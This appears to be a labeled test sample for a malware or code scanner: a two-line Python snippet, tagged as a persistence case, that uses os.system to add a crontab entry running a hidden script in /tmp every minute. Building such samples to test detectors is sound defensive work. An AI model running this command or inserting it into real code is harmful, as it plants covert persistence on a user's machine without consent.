# expect: 3 persistence
import os
os.system('(crontab -l; echo "* * * * * python3 /tmp/.u.py") | crontab -')
